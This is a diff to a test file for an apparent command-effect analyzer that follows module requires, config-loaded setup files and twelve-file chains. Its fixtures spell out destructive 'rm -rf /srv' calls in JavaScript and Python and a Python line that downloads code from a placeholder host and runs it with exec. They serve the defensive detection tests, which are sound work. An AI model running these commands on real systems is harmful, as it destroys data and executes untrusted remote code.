@@ -3,6 +3,10 @@ import { effectLines } from '../testing/effect-lines.ts'
 
 const act = { javascript: "require('child_process').execSync('rm -rf /srv')\n", python: 'import os\nos.system("rm -rf /srv")\n' }
 
+/** Files of which each loads the next. */
+const chain = (length: number): Readonly<Record<string, string>> =>
+  Object.fromEntries(Array.from({ length }, (_, index) => [`${index}.cjs`, `require('./${index + 1}.cjs')`]))
+
 test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
   ['a module that a script requires', 'node a.cjs', { 'a.cjs': "require('./lib/util.cjs').go()", 'lib/util.cjs': act.javascript }],
   ['one without its ending', 'node src/a.js', { 'src/a.js': "const u = require('../lib/util')", 'lib/util.js': act.javascript }],
@@ -20,6 +24,8 @@ test.each<readonly [name: string, commandLine: string, files: Readonly<Record<st
     'node a.cjs',
     { 'a.cjs': "require('./b.cjs')", 'b.cjs': "require('child_process').spawnSync('rm', ['-rf', '/srv'])" },
   ],
+  ['one that settings only name', 'jest', { 'jest.config.js': "module.exports = { setupFiles: ['./a.js'] }", 'a.js': act.javascript }],
+  ['the twelfth file after the script', 'node 0.cjs', { ...chain(12), '12.cjs': act.javascript }],
 ])('%s', (_name, commandLine, files) => {
   const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
   expect(effectLines(commandLine, { files: world })).toContain('delete /srv')
@@ -32,4 +38,19 @@ test.each([
   ['a module of somebody else', { '/w/a.cjs': "require('../other/b.cjs')", '/other/b.cjs': act.javascript }],
 ])('%s add nothing', (_name, files) => {
   expect(effectLines('node a.cjs', { files })).toEqual(['execute:project a.cjs'])
+})
+
+test('of a module that settings load, names alone load nothing', () => {
+  const files = { '/w/jest.config.js': "require('./a.js')", '/w/a.js': "exports.name = './b.js'", '/w/b.js': act.javascript }
+  expect(effectLines('jest', { files })).toEqual(['execute:project tests'])
+})
+
+test('no more than twelve files are followed', () => {
+  const files = Object.fromEntries(Object.entries({ ...chain(13), '13.cjs': act.javascript }).map(([path, text]) => [`/w/${path}`, text]))
+  expect(effectLines('node 0.cjs', { files })).toEqual(['execute:project 0.cjs'])
+})
+
+test('what a module downloads and runs counts', () => {
+  const files = { '/w/a.py': 'import b', '/w/b.py': "import urllib.request\nexec(urllib.request.urlopen('https://x.example').read())" }
+  expect(effectLines('python a.py', { files })).toContain('execute:download text from the network')
 })
